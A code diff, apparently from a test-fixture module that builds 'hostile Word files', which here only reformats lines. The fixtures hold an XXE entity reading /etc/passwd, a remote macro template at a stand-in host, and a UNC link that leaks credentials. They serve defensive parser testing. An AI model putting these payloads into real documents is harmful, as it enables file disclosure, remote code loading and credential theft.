@@ -1,5 +1,7 @@
 """Hostile Word files."""
 
+# ruff: noqa: E501 - a file stands in one line
+
 from __future__ import annotations
 
 import io
@@ -52,7 +54,11 @@ def _body(body: str, declaration: str = "", **parts: str) -> Callable[[], bytes]
 
 
 def _parts(**parts: str) -> Callable[[], bytes]:
-    return _body(f'<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>{PLAIN}</w:t></w:r></w:p>' * 3, **parts)
+    return _body(
+        f'<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>{PLAIN}</w:t></w:r></w:p>'
+        * 3,
+        **parts,
+    )
 
 
 def _doubled() -> bytes:
@@ -113,7 +119,11 @@ _FILE = '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
 _OUTSIDE = "".join(
     f'<Relationship Id="x{n}" Type="{_NAMES}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
     for n, (kind, target) in enumerate(
-        (("attachedTemplate", "https://sarenia.example/x.dotm"), ("image", "file:///etc/passwd"), ("hyperlink", "\\\\sarenia\\x"))
+        (
+            ("attachedTemplate", "https://sarenia.example/x.dotm"),
+            ("image", "file:///etc/passwd"),
+            ("hyperlink", "\\\\sarenia\\x"),
+        )
     )
 )
 
